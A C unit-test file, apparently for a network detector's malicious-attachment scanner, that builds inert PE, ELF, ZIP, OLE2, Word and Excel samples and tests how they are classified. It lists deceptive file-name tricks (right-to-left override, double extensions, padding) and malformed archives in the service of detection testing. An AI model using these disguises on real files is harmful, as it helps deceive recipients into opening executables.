/*
 * Malicious attachments (src/detect/zipscan.c, src/detect/dt_attachment.c).
 *
 * zipscan: file-name rows (double extension, RTL override, padding, trailing junk), and
 * content built here byte by byte: PE/MZ/ELF, ZIP (stored, deflated, encrypted in the local
 * header only / the central directory only, AES, truncated to a prefix, nested past the depth
 * limit, more entries than the limit, a deflate bomb against the byte budget, overlapping
 * entries against the work budget), OOXML with and without vbaProject.bin, OLE2 (VBA storage,
 * MSI class id, EncryptedPackage, a FAT loop, a directory out of reach), RAR 4/5 (encrypted
 * headers, encrypted files), 7z (AES coder, encrypted header, header past the prefix), LNK,
 * ISO 9660, OneNote, HTA, every prefix of a ZIP (never a crash, ASan checks the reads).
 *
 * The detector through the detector host: each signature with its evidence, benign files
 * silent, settings (encrypted-archives, type-mismatch, name-padding at its edge), one alert
 * per file per flow then updates at the update interval, sightings across flows, HTTP
 * downloads (status, Content-Disposition, JavaScript), memcap evictions counted.
 */
#include "detect/dtr_int.h"
#include "detect/rule.h"
#include "detect/zipscan.h"
#include "testlib/tcheck.h"

#include "app/file.h"
#include "app/http.h"
#include "app/mime.h"
#include "app/smtp.h"
#include "core/mm.h"

#include <openssl/evp.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

#include <cmocka.h>

extern const struct dtr_ops dt_attachment_ops;

#define S_NS ((uint64_t)1000000000)
#define MIN_NS ((uint64_t)60 * S_NS)
#define T0 ((uint64_t)1713830400 * S_NS)

/* ---- byte builders -------------------------------------------------------------------- */

struct buf {
    uint8_t *p;
    size_t len, cap;
};

static void b_put(struct buf *b, const void *d, size_t n)
{
    if (b->len + n > b->cap) {
        size_t nc = b->cap ? b->cap : 4096;
        while (nc < b->len + n)
            nc *= 2;
        b->p = realloc(b->p, nc);
        assert_non_null(b->p);
        b->cap = nc;
    }
    if (n)
        memcpy(b->p + b->len, d, n);
    b->len += n;
}

static void b_u8(struct buf *b, uint8_t v)
{
    b_put(b, &v, 1);
}

static void b_le16(struct buf *b, uint32_t v)
{
    uint8_t x[2] = {(uint8_t)v, (uint8_t)(v >> 8)};
    b_put(b, x, 2);
}

static void b_le32(struct buf *b, uint32_t v)
{
    uint8_t x[4] = {(uint8_t)v, (uint8_t)(v >> 8), (uint8_t)(v >> 16), (uint8_t)(v >> 24)};
    b_put(b, x, 4);
}

static void b_le64(struct buf *b, uint64_t v)
{
    b_le32(b, (uint32_t)v);
    b_le32(b, (uint32_t)(v >> 32));
}

static void b_zero(struct buf *b, size_t n)
{
    for (size_t i = 0; i < n; i++)
        b_u8(b, 0);
}

static void b_free(struct buf *b)
{
    free(b->p);
    memset(b, 0, sizeof *b);
}

static void wr_le32(uint8_t *p, uint32_t v)
{
    p[0] = (uint8_t)v;
    p[1] = (uint8_t)(v >> 8);
    p[2] = (uint8_t)(v >> 16);
    p[3] = (uint8_t)(v >> 24);
}

/* A small PE32 image: MZ, e_lfanew 0x80, PE\0\0, COFF (i386, executable), optional header
 * (PE32, GUI). */
static struct buf mk_pe(size_t size, bool dll)
{
    struct buf b = {0};
    b_put(&b, "MZ", 2);
    b_zero(&b, 0x3a);
    b_le32(&b, 0x80);
    b_zero(&b, 0x80 - b.len);
    b_put(&b, "PE\0\0", 4);
    b_le16(&b, 0x014c);
    b_le16(&b, 1);
    b_zero(&b, 12);
    b_le16(&b, 0xe0);
    b_le16(&b, dll ? 0x2102 : 0x0102);
    size_t opt = b.len;
    b_le16(&b, 0x10b);
    b_zero(&b, 66);
    b_le16(&b, 2); /* subsystem GUI at opt + 68 */
    b_zero(&b, 0xe0 - (b.len - opt));
    while (b.len < size)
        b_u8(&b, (uint8_t)(b.len * 7));
    return b;
}

static struct buf mk_elf(void)
{
    struct buf b = {0};
    b_put(&b, "\x7f" "ELF", 4);
    b_u8(&b, 2); /* 64-bit */
    b_u8(&b, 1); /* LSB */
    b_u8(&b, 1);
    b_zero(&b, 9);
    b_le16(&b, 2);    /* executable */
    b_le16(&b, 0x3e); /* x86-64 */
    b_zero(&b, 200);
    return b;
}

static size_t raw_deflate(const uint8_t *in, size_t n, struct buf *out)
{
    z_stream z;
    memset(&z, 0, sizeof z);
    assert_int_equal(deflateInit2(&z, 9, Z_DEFLATED, -15, 8, Z_DEFAULT_STRATEGY), Z_OK);
    size_t start = out->len;
    uint8_t chunk[16384];
    z.next_in = (Bytef *)(uintptr_t)in;
    z.avail_in = (uInt)n;
    int rc;
    do {
        z.next_out = chunk;
        z.avail_out = sizeof chunk;
        rc = deflate(&z, Z_FINISH);
        b_put(out, chunk, sizeof chunk - z.avail_out);
    } while (rc == Z_OK);
    assert_int_equal(rc, Z_STREAM_END);
    deflateEnd(&z);
    return out->len - start;
}

/* ZIP writer: entries appended, then the central directory and its end. */
struct zipw {
    struct buf data, cd;
    uint16_t n;
};

struct zent_opt {
    uint16_t method;       /* 0 stored, 8 deflate, 99 AES */
    uint16_t lflags, cflags; /* general-purpose flags of the local / central header */
};

/* An entry's local header, its data (and data descriptor), and its central header. */
static void zip_put(struct zipw *z, const char *name, uint16_t lflags, uint16_t cflags,
                    uint16_t method, uint16_t mtime, uint16_t mdate, uint32_t crc,
                    const struct buf *data, size_t usize, bool descriptor)
{
    size_t off = z->data.len;
    size_t nl = strlen(name);
    b_le32(&z->data, 0x04034b50);
    b_le16(&z->data, 20);
    b_le16(&z->data, lflags);
    b_le16(&z->data, method);
    b_le16(&z->data, mtime);
    b_le16(&z->data, mdate);
    b_le32(&z->data, descriptor ? 0 : crc);
    b_le32(&z->data, (uint32_t)data->len);
    b_le32(&z->data, (uint32_t)usize);
    b_le16(&z->data, (uint32_t)nl);
    b_le16(&z->data, 0);
    b_put(&z->data, name, nl);
    b_put(&z->data, data->p, data->len);
    if (descriptor) {
        b_le32(&z->data, 0x08074b50);
        b_le32(&z->data, crc);
        b_le32(&z->data, (uint32_t)data->len);
        b_le32(&z->data, (uint32_t)usize);
    }
    b_le32(&z->cd, 0x02014b50);
    b_le16(&z->cd, 20);
    b_le16(&z->cd, 20);
    b_le16(&z->cd, cflags);
    b_le16(&z->cd, method);
    b_le16(&z->cd, mtime);
    b_le16(&z->cd, mdate);
    b_le32(&z->cd, crc);
    b_le32(&z->cd, (uint32_t)data->len);
    b_le32(&z->cd, (uint32_t)usize);
    b_le16(&z->cd, (uint32_t)nl);
    b_zero(&z->cd, 8);
    b_le32(&z->cd, 0x20);
    b_le32(&z->cd, (uint32_t)off);
    b_put(&z->cd, name, nl);
    z->n++;
}

static void zip_add(struct zipw *z, const char *name, const uint8_t *d, size_t n,
                    struct zent_opt o)
{
    struct buf comp = {0};
    if (o.method == 8)
        raw_deflate(d, n, &comp);
    else
        b_put(&comp, d, n);
    uint32_t crc = (uint32_t)crc32(0, d, (uInt)n);
    zip_put(z, name, o.lflags, o.cflags, o.method, 0, 0, crc, &comp, n, false);
    b_free(&comp);
}

static struct buf zip_end(struct zipw *z)
{
    struct buf out = {0};
    b_put(&out, z->data.p, z->data.len);
    b_put(&out, z->cd.p, z->cd.len);
    b_le32(&out, 0x06054b50);
    b_le16(&out, 0);
    b_le16(&out, 0);
    b_le16(&out, z->n);
    b_le16(&out, z->n);
    b_le32(&out, (uint32_t)z->cd.len);
    b_le32(&out, (uint32_t)z->data.len);
    b_le16(&out, 0);
    b_free(&z->data);
    b_free(&z->cd);
    z->n = 0;
    return out;
}

static const struct zent_opt STORED = {0, 0, 0}, DEFL = {8, 0, 0};

/* A ZipCrypto entry (APPNOTE 6.1): the data (stored or deflated) behind the 12-byte header
 * whose last byte is the CRC's high byte, or the time's with a data descriptor (flag bit 3;
 * the local header then carries no CRC). Written the way PKZIP does, with a bitwise CRC-32
 * step of its own rather than the scanner's table. */
struct zc_w {
    uint32_t k[3];
};

static void zcw_update(struct zc_w *z, uint8_t c)
{
    uint32_t x = (z->k[0] ^ c) & 0xff;
    for (int i = 0; i < 8; i++)
        x = (x & 1) ? (x >> 1) ^ 0xedb88320u : x >> 1;
    z->k[0] = x ^ (z->k[0] >> 8);
    z->k[1] = (z->k[1] + (z->k[0] & 0xff)) * 134775813u + 1;
    uint32_t y = (z->k[2] ^ (z->k[1] >> 24)) & 0xff;
    for (int i = 0; i < 8; i++)
        y = (y & 1) ? (y >> 1) ^ 0xedb88320u : y >> 1;
    z->k[2] = y ^ (z->k[2] >> 8);
}

static uint8_t zcw_enc(struct zc_w *z, uint8_t p)
{
    uint32_t t = (z->k[2] | 2) & 0xffff;
    uint8_t c = (uint8_t)(p ^ ((t * (t ^ 1)) >> 8));
    zcw_update(z, p);
    return c;
}

#define ZC_MTIME 0x8cc3u /* 17:38:06: the check byte with a data descriptor is 0x8c */

static void zip_add_zc(struct zipw *z, const char *name, const uint8_t *d, size_t n,
                       uint16_t method, const char *password, bool descriptor)
{
    struct buf comp = {0};
    if (method == 8)
        raw_deflate(d, n, &comp);
    else
        b_put(&comp, d, n);
    uint32_t crc = (uint32_t)crc32(0, d, (uInt)n);
    struct zc_w k = {{0x12345678u, 0x23456789u, 0x34567890u}};
    for (const char *q = password; *q; q++)
        zcw_update(&k, (uint8_t)*q);
    struct buf enc = {0};
    for (int i = 0; i < 12; i++) {
        uint8_t h = i < 11 ? (uint8_t)(0x5a + 7 * i)
                           : descriptor ? (uint8_t)(ZC_MTIME >> 8) : (uint8_t)(crc >> 24);
        b_u8(&enc, zcw_enc(&k, h));
    }
    for (size_t i = 0; i < comp.len; i++)
        b_u8(&enc, zcw_enc(&k, comp.p[i]));
    uint16_t flags = (uint16_t)(1u | (descriptor ? 8u : 0u));
    zip_put(z, name, flags, flags, method, ZC_MTIME, 0x58b6, crc, &enc, n, descriptor);
    b_free(&comp);
    b_free(&enc);
}

/* The 512-byte header of an OLE2 file (version 3, 512-byte sectors) whose one FAT sector is
 * sector 0 and whose directory starts at sector 1, no mini FAT. */
static void ole_header(struct buf *b)
{
    b_put(b, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
    b_zero(b, 16);
    b_le16(b, 0x3e);
    b_le16(b, 3);
    b_le16(b, 0xfffe);
    b_le16(b, 9);
    b_le16(b, 6);
    b_zero(b, 6);
    b_le32(b, 0);          /* directory sectors (v3: 0) */
    b_le32(b, 1);          /* FAT sectors */
    b_le32(b, 1);          /* first directory sector */
    b_le32(b, 0);
    b_le32(b, 4096);       /* mini stream cutoff */
    b_le32(b, 0xfffffffe); /* mini FAT */
    b_le32(b, 0);
    b_le32(b, 0xfffffffe); /* DIFAT sector */
    b_le32(b, 0);
    b_le32(b, 0); /* DIFAT[0] = sector 0 */
    for (int i = 1; i < 109; i++)
        b_le32(b, 0xffffffff);
    assert_int_equal(b->len, 512);
}

/* An OLE2 file (version 3, 512-byte sectors): sector 0 the FAT, then the directory. Entry i
 * has names[i] and types[i] (1 storage, 2 stream); a root entry comes first. */
static struct buf mk_ole(const char *const *names, const uint8_t *types, size_t n,
                         const uint8_t *root_clsid, bool fat_loop)
{
    struct buf b = {0};
    size_t dir_sectors = (n + 1 + 3) / 4;
    ole_header(&b);
    /* FAT */
    b_le32(&b, 0xfffffffd);
    for (size_t i = 0; i < dir_sectors; i++)
        b_le32(&b, fat_loop ? 1u : i + 1 < dir_sectors ? (uint32_t)(i + 2) : 0xfffffffe);
    while (b.len < 1024)
        b_le32(&b, 0xffffffff);
    /* directory */
    for (size_t i = 0; i < dir_sectors * 4; i++) {
        uint8_t e[128];
        memset(e, 0, sizeof e);
        const char *nm = i == 0 ? "Root Entry" : i <= n ? names[i - 1] : NULL;
        if (nm) {
            size_t k = strlen(nm);
            for (size_t j = 0; j < k && j < 31; j++)
                e[2 * j] = (uint8_t)nm[j];
            e[64] = (uint8_t)(2 * (k + 1));
            e[66] = i == 0 ? 5 : types[i - 1];
            if (i == 0 && root_clsid)
                memcpy(e + 80, root_clsid, 16);
        }
        memset(e + 68, 0xff, 12);
        b_put(&b, e, sizeof e);
    }
    return b;
}

/* The file sector of the i-th of n sectors placed from `base`: neighbours swapped, so that a
 * reader must follow the chain. */
static uint32_t doc_sector(uint32_t base, size_t i, size_t n)
{
    return base + (uint32_t)((i ^ 1) < n ? (i ^ 1) : i);
}

static void le32_at(uint8_t *p, uint32_t v)
{
    for (int i = 0; i < 4; i++)
        p[i] = (uint8_t)(v >> (8 * i));
}

/*
 * A Word 97-2003 document as a compound file: the streams WordDocument (wd) and the table
 * stream tname (tbl), the root's children; with DOC_DECOY_TABLE also the
 * other table stream holding the WordDocument stream's bytes (no piece table); with
 * DOC_ORPHAN_FIRST an entry "WordDocument" first in the directory that no storage points to. Under
 * 4096 bytes the table lives in the mini stream: its 64-byte mini sectors stored last first from
 * mini sector DOC_MINI_AT on (chained by the mini FAT, whose entries for them are in its second
 * sector), inside the root entry's stream, whose sectors are swapped in pairs as the WordDocument
 * stream's are; a WordDocument stream under 4096 bytes follows them in the mini stream. Sector 0
 * the FAT, 1 the directory, 2 and 3 the mini FAT.
 */
#define DOC_MINI_AT 150u
enum doc_layout { DOC_PLAIN, DOC_DECOY_TABLE, DOC_ORPHAN_FIRST };
#define NOSTREAM 0xffffffffu

static struct buf mk_doc(const struct buf *wd, const struct buf *tbl, const char *tname,
                         enum doc_layout layout)
{
    bool mini = tbl->len < 4096, wmini = wd->len < 4096;
    size_t k = mini ? (tbl->len + 63) / 64 : 0;  /* the table's mini sectors */
    size_t kw = wmini ? (wd->len + 63) / 64 : 0; /* the WordDocument stream's, after them */
    size_t ws = wmini ? 0 : (wd->len + 511) / 512, ts = mini ? 0 : (tbl->len + 511) / 512;
    size_t mlen = mini || wmini ? (DOC_MINI_AT + k + kw) * 64 : 0; /* the mini stream */
    size_t c = (mlen + 511) / 512;                                 /* its sectors */
    uint32_t cbase = 4, wbase = (uint32_t)(4 + c), tbase = (uint32_t)(wbase + ws);
    assert_true(tbase + ts <= 128); /* one FAT sector */
    struct buf b = {0};
    ole_header(&b);
    if (mlen) {
        le32_at(b.p + 0x3c, 2); /* mini FAT: sectors 2 and 3 */
        le32_at(b.p + 0x40, 2);
    }
    uint32_t fat[128];
    for (size_t i = 0; i < 128; i++)
        fat[i] = 0xffffffff;
    fat[0] = 0xfffffffd;
    fat[1] = fat[3] = 0xfffffffe;
    fat[2] = 3;
    for (size_t i = 0; i < c; i++)
        fat[doc_sector(cbase, i, c)] = i + 1 < c ? doc_sector(cbase, i + 1, c) : 0xfffffffe;
    for (size_t i = 0; i < ws; i++)
        fat[doc_sector(wbase, i, ws)] = i + 1 < ws ? doc_sector(wbase, i + 1, ws) : 0xfffffffe;
    for (size_t i = 0; i < ts; i++)
        fat[doc_sector(tbase, i, ts)] = i + 1 < ts ? doc_sector(tbase, i + 1, ts) : 0xfffffffe;
    for (size_t i = 0; i < 128; i++)
        b_le32(&b, fat[i]);
    /* directory: the root (the mini stream), the streams as the layout says, linked as the
     * root's children (entry i's left, right and child at 68, 72, 76) */
    uint32_t wd_start = wmini ? (uint32_t)(DOC_MINI_AT + k) : doc_sector(wbase, 0, ws);
    uint32_t tb_start = mini ? (uint32_t)(DOC_MINI_AT + k - 1) : doc_sector(tbase, 0, ts);
    const char *other = tname[0] == '0' ? "1Table" : "0Table";
    struct {
        const char *name;
        uint8_t type;
        uint32_t start, size, left, right, child;
    } ent[4] = {
        {"Root Entry", 5, c ? doc_sector(cbase, 0, c) : 0xfffffffe, (uint32_t)mlen, NOSTREAM,
         NOSTREAM, 1},
        {"WordDocument", 2, wd_start, (uint32_t)wd->len, NOSTREAM, 2, NOSTREAM},
        {tname, 2, tb_start, (uint32_t)tbl->len, NOSTREAM, NOSTREAM, NOSTREAM},
        {NULL, 0, 0, 0, NOSTREAM, NOSTREAM, NOSTREAM},
    };
    if (layout == DOC_DECOY_TABLE) {
        /* the other table stream, holding the WordDocument stream's bytes (no piece table) */
        ent[0].child = 2;
        ent[1].right = NOSTREAM;
        ent[2].left = 1;
        ent[2].right = 3;
        ent[3] = (__typeof__(ent[3])){other,    2,        wd_start, (uint32_t)wd->len,
                                      NOSTREAM, NOSTREAM, NOSTREAM};
    } else if (layout == DOC_ORPHAN_FIRST) {
        /* entry 1, first in the directory, a "WordDocument" no storage points to (the table
         * stream's bytes); the document's own is entry 3 */
        ent[0].child = 2;
        ent[1] = (__typeof__(ent[1])){"WordDocument", 2,        tb_start, (uint32_t)tbl->len,
                                      NOSTREAM,       NOSTREAM, NOSTREAM};
        ent[2].right = 3;
        ent[3] = (__typeof__(ent[3])){"WordDocument", 2,        wd_start, (uint32_t)wd->len,
                                      NOSTREAM,       NOSTREAM, NOSTREAM};
    }
    for (int i = 0; i < 4; i++) {
        uint8_t e[128];
        memset(e, 0, sizeof e);
        if (ent[i].name) {
            size_t kk = strlen(ent[i].name);
            for (size_t j = 0; j < kk; j++)
                e[2 * j] = (uint8_t)ent[i].name[j];
            e[64] = (uint8_t)(2 * (kk + 1));
            e[66] = ent[i].type;
            le32_at(e + 116, ent[i].start);
            le32_at(e + 120, ent[i].size);
        }
        le32_at(e + 68, ent[i].left);
        le32_at(e + 72, ent[i].right);
        le32_at(e + 76, ent[i].child);
        b_put(&b, e, sizeof e);
    }
    /* mini FAT: mini sector DOC_MINI_AT + k-1-i holds the table's i-th 64 bytes, and
     * DOC_MINI_AT + k + i the WordDocument stream's */
    assert_true(DOC_MINI_AT + k + kw <= 256);
    for (size_t m = 0; m < 256; m++) {
        uint32_t v = 0xffffffff;
        if (m >= DOC_MINI_AT && m < DOC_MINI_AT + k)
            v = m > DOC_MINI_AT ? (uint32_t)(m - 1) : 0xfffffffe;
        else if (m >= DOC_MINI_AT + k && m < DOC_MINI_AT + k + kw)
            v = m + 1 < DOC_MINI_AT + k + kw ? (uint32_t)(m + 1) : 0xfffffffe;
        b_le32(&b, v);
    }
    /* the sectors, in file order */
    uint8_t *img = calloc(128, 512);
    assert_non_null(img);
    for (size_t i = 0; i < k; i++) {
        size_t pos = (DOC_MINI_AT + k - 1 - i) * 64; /* in the mini stream */
        size_t sec = doc_sector(cbase, pos / 512, c);
        size_t n = tbl->len - i * 64 < 64 ? tbl->len - i * 64 : 64;
        memcpy(img + (sec - 4) * 512 + pos % 512, tbl->p + i * 64, n);
    }
    for (size_t i = 0; i < kw; i++) {
        size_t pos = (DOC_MINI_AT + k + i) * 64;
        size_t sec = doc_sector(cbase, pos / 512, c);
        size_t n = wd->len - i * 64 < 64 ? wd->len - i * 64 : 64;
        memcpy(img + (sec - 4) * 512 + pos % 512, wd->p + i * 64, n);
    }
    for (size_t i = 0; i < ws; i++) {
        size_t n = wd->len - i * 512 < 512 ? wd->len - i * 512 : 512;
        memcpy(img + (doc_sector(wbase, i, ws) - 4) * 512, wd->p + i * 512, n);
    }
    for (size_t i = 0; i < ts; i++) {
        size_t n = tbl->len - i * 512 < 512 ? tbl->len - i * 512 : 512;
        memcpy(img + (doc_sector(tbase, i, ts) - 4) * 512, tbl->p + i * 512, n);
    }
    b_put(&b, img, (tbase + ts - 4) * 512);
    free(img);
    return b;
}

/*
 * A WordDocument stream (Word 97 FIB, fWhichTblStm table1: 1Table, else 0Table) with `text`
 * as its one 8-bit piece at 0x800 and `pad` bytes in all, and the table stream: tpad bytes of
 * other tables, then the Clx.
 */
static void mk_word_streams(const char *text, size_t pad, size_t tpad, bool table1, struct buf *wd,
                            struct buf *tbl)
{
    *wd = (struct buf){0};
    *tbl = (struct buf){0};
    size_t n = strlen(text);
    assert_true(0x800 + n <= pad);
    b_zero(wd, pad);
    wd->p[0] = 0xEC;
    wd->p[1] = 0xA5;
    wd->p[2] = 0xC1;
    wd->p[0x0B] = table1 ? 0x02 : 0x00; /* fWhichTblStm */
    wd->p[32] = 14;                     /* csw */
    wd->p[62] = 22;                     /* cslw */
    wd->p[152] = 0x5D;                  /* cbRgFcLcb */
    le32_at(wd->p + 0x1A2, (uint32_t)tpad);
    le32_at(wd->p + 0x1A6, 5 + 8 + 8);
    memcpy(wd->p + 0x800, text, n);
    b_zero(tbl, tpad);
    b_u8(tbl, 0x02);
    b_le32(tbl, 16);
    b_le32(tbl, 0);
    b_le32(tbl, (uint32_t)n);
    b_le16(tbl, 0);
    b_le32(tbl, (0x800u * 2) | 0x40000000u);
    b_le16(tbl, 0);
}

/* A BIFF record: type, length, data. */
static void biff(struct buf *b, uint16_t type, const uint8_t *d, uint16_t len)
{
    b_le16(b, type);
    b_le16(b, len);
    if (len)
        b_put(b, d, len);
}

/* A BoundSheet8 record: position 0, visibility hs (0 visible, 1 hidden, 2 very hidden),
 * sheet type dt (0 worksheet, 1 Excel 4.0 macro sheet), a short name. */
static void biff_sheet(struct buf *b, uint8_t hs, uint8_t dt, const char *name)
{
    uint8_t d[64] = {0};
    size_t k = strlen(name);
    d[4] = hs;
    d[5] = dt;
    d[6] = (uint8_t)k; /* cch, then fHighByte 0 and the 8-bit characters */
    memcpy(d + 8, name, k);
    biff(b, 0x0085, d, (uint16_t)(8 + k));
}

/*
 * A workbook stream: BOF, FilePass when encrypted, one filler record so that the sheet list
 * starts at byte `at`, the sheets (a macro sheet with visibility hs when macro, then the
 * worksheet "Sheet1"), EOF, then filler past 4096 bytes (under it the stream would belong in
 * the mini stream).
 */
static struct buf mk_workbook(size_t at, bool macro, uint8_t hs, bool encrypted)
{
    struct buf b = {0};
    static const uint8_t bof[16] = {0x00, 0x06, 0x05, 0x00};
    static const uint8_t fill[1024];
    biff(&b, 0x0809, bof, sizeof bof);
    if (encrypted)
        biff(&b, 0x002f, (const uint8_t *)"\x01\x00\x01\x00\x01\x00", 6);
    assert_true(at >= b.len + 4 && at - b.len - 4 <= sizeof fill);
    biff(&b, 0x0042, fill, (uint16_t)(at - b.len - 4));
    if (macro)
        biff_sheet(&b, hs, 1, "Macro1");
    biff_sheet(&b, 0, 0, "Sheet1");
    biff(&b, 0x000a, NULL, 0);
    while (b.len < 5000)
        biff(&b, 0x0042, fill, 100);
    return b;
}

/* The file sector of the stream's i-th sector in mk_xls: neighbours swapped, so that a
 * reader must follow the FAT chain. */
static uint32_t xls_sector(size_t i, size_t secs)
{
    return (uint32_t)(2 + ((i ^ 1) < secs ? (i ^ 1) : i));
}

/* An OLE2 file (version 3, 512-byte sectors) holding one stream, "Workbook": sector 0 the FAT,
 * sector 1 the directory, the stream from sector 2 on. */
static struct buf mk_xls(const struct buf *wb)
{
    struct buf b = {0};
    size_t secs = (wb->len + 511) / 512;
    assert_true(secs + 2 <= 128); /* one FAT sector */
    ole_header(&b);
    /* FAT: the FAT itself, the directory, the stream's chain */
    uint32_t fat[128];
    for (size_t i = 0; i < 128; i++)
        fat[i] = 0xffffffff;
    fat[0] = 0xfffffffd;
    fat[1] = 0xfffffffe;
    for (size_t i = 0; i < secs; i++)
        fat[xls_sector(i, secs)] = i + 1 < secs ? xls_sector(i + 1, secs) : 0xfffffffe;
    for (size_t i = 0; i < 128; i++)
        b_le32(&b, fat[i]);
    /* directory: the root, then the stream */
    for (int i = 0; i < 4; i++) {
        uint8_t e[128];
        memset(e, 0, sizeof e);
        const char *nm = i == 0 ? "Root Entry" : i == 1 ? "Workbook" : NULL;
        if (nm) {
            size_t k = strlen(nm);
            for (size_t j = 0; j < k; j++)
                e[2 * j] = (uint8_t)nm[j];
            e[64] = (uint8_t)(2 * (k + 1));
            e[66] = i == 0 ? 5 : 2;
        }
        memset(e + 68, 0xff, 12);
        if (i == 1) {
            uint32_t start = xls_sector(0, secs), size = (uint32_t)wb->len;
            memcpy(e + 116, &start, 4); /* (little-endian host, as the other builders) */
            memcpy(e + 120, &size, 4);
        }
        b_put(&b, e, sizeof e);
    }
    size_t base = b.len;
    b_zero(&b, secs * 512);
    for (size_t i = 0; i < secs; i++) {
        size_t n = wb->len - 512 * i < 512 ? wb->len - 512 * i : 512;
        memcpy(b.p + base + 512 * (xls_sector(i, secs) - 2), wb->p + 512 * i, n);
    }
    return b;
}

/* ---- zipscan: names ------------------------------------------------------------------- */

struct name_row {
    const char *name;
    const char *ext, *ext2;
    uint8_t cls;
    bool dbl, bidi, trailing;
    uint32_t pad;
};

static const struct name_row name_rows[] = {
    {"scan.pdf.exe", "exe", "pdf", ZS_X_EXEC, true, false, false, 0},
    {"SCAN.PDF.EXE", "exe", "pdf", ZS_X_EXEC, true, false, false, 0},
    {"invoice\xe2\x80\xae" "fdp.exe", "exe", "", ZS_X_EXEC, false, true, false, 0},
    {"photo\xe2\x80\xae" "gpj.js", "js", "", ZS_X_SCRIPT, false, true, false, 0},
    {"invoice.pdf     .exe", "exe", "pdf", ZS_X_EXEC, true, false, false, 5},
    {"invoice.pdf\xe3\x80\x80\xe3\x80\x80.scr", "scr", "pdf", ZS_X_EXEC, true, false, false, 2},
    {"setup.exe. . ", "exe", "", ZS_X_EXEC, false, false, true, 0},
    {"setup.x64.exe", "exe", "x64", ZS_X_EXEC, false, false, false, 0},
    {"report.docm", "docm", "", ZS_X_MACRO_DOC, false, false, false, 0},
    {"Photo.JPG", "jpg", "", ZS_X_DECOY, false, false, false, 0},
    {"dir/sub\\x.doc.js", "js", "doc", ZS_X_SCRIPT, true, false, false, 0},
    {"archive.tar.gz", "gz", "tar", ZS_X_ARCHIVE, false, false, false, 0},
    {"invoice.zip.lnk", "lnk", "zip", ZS_X_SHORTCUT, true, false, false, 0},
    {".pdf.exe", "exe", "", ZS_X_EXEC, false, false, false, 0},
    {"noext", "", "", ZS_X_NONE, false, false, false, 0},
    {".hidden", "", "", ZS_X_NONE, false, false, false, 0},
    {"x.verylongextension16", "", "", ZS_X_NONE, false, false, false, 0},
    {"disk.iso", "iso", "", ZS_X_DISKIMAGE, false, false, false, 0},
    {"notes.one", "one", "", ZS_X_ONENOTE, false, false, false, 0},
    {"\xe8\xab\x8b\xe6\xb1\x82\xe6\x9b\xb8.pdf.exe", "exe", "pdf", ZS_X_EXEC, true, false, false, 0},
    {"a.pdf.e\xcc\x81xe", "", "", ZS_X_NONE, false, false, false, 0},
    {"zero\xe2\x80\x8b.exe\xe2\x80\x8b", "exe", "", ZS_X_EXEC, false, false, true, 0},
    {"", "", "", ZS_X_NONE, false, false, false, 0},
};

static void test_name_parse(void **state)
{
    (void)state;
    for (size_t i = 0; i < MM_ARRAY_LEN(name_rows); i++) {
        const struct name_row *r = &name_rows[i];
        struct zs_name nm;
        size_t len = strlen(r->name);
        uint8_t *copy = malloc(len ? len : 1); /* exact size: ASan sees an over-read */
        assert_non_null(copy);
        memcpy(copy, r->name, len);
        zs_name_parse(copy, len, &nm);
        free(copy);
        TC_CHECK(r->name, !strcmp(nm.ext, r->ext));
        TC_CHECK(r->name, !strcmp(nm.ext2, r->ext2));
        TC_EQ(r->name, nm.cls, r->cls);
        TC_EQ(r->name, zs_name_double_ext(&nm), r->dbl);
        TC_EQ(r->name, nm.bidi, r->bidi);
        TC_EQ(r->name, nm.trailing_junk, r->trailing);
        TC_EQ(r->name, nm.pad, r->pad);
    }
    tc_done();
}

/* ---- zipscan: content ----------------------------------------------------------------- */

static zs_work_t *work(uint32_t depth, uint32_t entries, size_t entry_bytes, size_t total)
{
    struct zs_limits lim = {depth, entries, entry_bytes, total};
    zs_work_t *w = zs_work_new(&lim);
    assert_non_null(w);
    return w;
}

/* Scan from an exact-size copy so ASan catches a read one byte past the end. */
static void scan(zs_work_t *w, const uint8_t *d, size_t n, uint64_t full, struct zs_result *r)
{
    uint8_t *copy = malloc(n ? n : 1);
    assert_non_null(copy);
    if (n)
        memcpy(copy, d, n);
    zs_scan(w, copy, n, full, r);
    free(copy);
}

static const struct zs_item *item(const struct zs_result *r, const char *path)
{
    for (uint32_t i = 0; i < r->n_items; i++)
        if (!strcmp(r->items[i].path, path))
            return &r->items[i];
    return NULL;
}

/* The item, or the test fails here. */
static const struct zs_item *need_item(const struct zs_result *r, const char *path)
{
    const struct zs_item *it = item(r, path);
    if (!it) {
        fprintf(stderr, "no inner item '%s' (%u items)\n", path, r->n_items);
        for (uint32_t i = 0; i < r->n_items; i++)
            fprintf(stderr, "  item '%s'\n", r->items[i].path);
        fail();
        abort();
    }
    return it;
}

static void test_scan_executables(void **state)
{
    (void)state;
    zs_work_t *w = work(3, 256, 512 << 10, 4 << 20);
    struct zs_result r;
    struct buf pe = mk_pe(2048, false);
    scan(w, pe.p, pe.len, pe.len, &r);
    assert_int_equal(r.kind, ZS_K_PE);
    assert_true(r.flags & ZS_F_EXECUTABLE);
    assert_string_equal(r.desc, "PE32 executable (GUI) Intel 80386");
    assert_int_equal(r.status, 0);
    /* cut before the PE header: still an MZ executable, and truncated */
    scan(w, pe.p, 0x60, pe.len, &r);
    assert_int_equal(r.kind, ZS_K_MZ);
    assert_true(r.flags & ZS_F_EXECUTABLE);
    assert_true(r.status & ZS_S_TRUNCATED);
    struct buf dll = mk_pe(1024, true);
    scan(w, dll.p, dll.len, dll.len, &r);
    assert_string_equal(r.desc, "PE32 DLL (GUI) Intel 80386");
    struct buf elf = mk_elf();
    scan(w, elf.p, elf.len, elf.len, &r);
    assert_int_equal(r.kind, ZS_K_ELF);
    assert_string_equal(r.desc, "ELF 64-bit LSB executable, x86-64");
    assert_true(r.flags & ZS_F_EXECUTABLE);
    /* text, an HTA, an encoded script, a PDF */
    static const char hta[] = "<html><head><HTA:APPLICATION ID=\"x\"></head></html>";
    scan(w, (const uint8_t *)hta, strlen(hta), strlen(hta), &r);
    assert_int_equal(r.kind, ZS_K_HTML);
    assert_true(r.flags & ZS_F_SCRIPT);
    static const char enc[] = "#@~^XQAAAA==v,Zk";
    scan(w, (const uint8_t *)enc, strlen(enc), strlen(enc), &r);
    assert_true(r.flags & ZS_F_SCRIPT);
    static const char pdf[] = "%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF\n";
